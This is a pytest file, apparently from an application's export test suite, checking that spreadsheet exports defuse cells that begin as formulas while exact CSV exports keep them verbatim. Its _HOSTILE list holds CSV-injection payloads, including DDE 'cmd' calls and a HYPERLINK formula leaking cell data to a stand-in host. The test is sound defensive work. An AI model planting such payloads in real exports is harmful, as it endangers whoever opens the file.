"""Whoever fills in a form of the application wants a formula run in the spreadsheet of a person who opens an export.

What stops them: the format for spreadsheets has an apostrophe before such text. The exact format, csv, says in its README what it is not for.
"""

import csv
from pathlib import Path

import pytest

from sbh_pipelines_tests.backup.conftest import application, database
from sbh_pipelines_tests.support.application import ACME, ADMIN, Application

__all__ = ["application", "database"]  # fixtures, made elsewhere

_HOSTILE = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    '=HYPERLINK("http://x/?"&A1,"b")',
    "=1,2",
    '"=1',
)
_HARMLESS = ("-5", "+49301234", "-1.5e3", "plain", "a=b", "", "'quoted", "1+1")


@pytest.mark.parametrize("format", ["spreadsheet", "csv"])
def test_cells_that_begin_as_formulas(format: str, application: Application, tmp_path: Path) -> None:
    application.database.run(
        'CREATE TABLE forms (id int PRIMARY KEY, tenant_id int NOT NULL REFERENCES tenants, "=name" text, "list" text[])'
    )
    texts = [*_HOSTILE, *_HARMLESS]
    for number, text in enumerate(texts):
        application.database.ask(
            "INSERT INTO forms VALUES (%s, 1, %s, ARRAY[%s]) RETURNING id", [number - 3, text, text]
        )
    service = application.service()
    service.create_backup(ACME, ADMIN)
    report = service.exports.export(
        "latest", ACME, ADMIN, tmp_path / "out", format=format, tables=["forms"], files=False
    )
    (table,) = report.tables
    assert table.file.endswith("forms.csv")
    with (tmp_path / "out" / table.file).open(newline="", encoding="utf-8") as file:
        head, *rows = csv.reader(file)
    written = {int(row[0]) + 3: row[2] for row in rows}
    said = (tmp_path / "out" / "README.txt").read_text()
    if format == "csv":
        assert [written[number] for number in range(len(texts))] == texts
        assert head == ["id", "tenant_id", "=name", "list"]
        assert "do not open the files in one" in " ".join(said.split())
        return
    assert head == ["id", "tenant_id", "'=name", "list"]
    assert [written[number] for number in range(len(texts))] == [
        *(text if text.startswith('"') else f"'{text}" for text in _HOSTILE),
        *_HARMLESS,
    ]
    assert all(row[0].lstrip("-").isdigit() for row in rows)
    assert "is not exact" in " ".join(said.split())
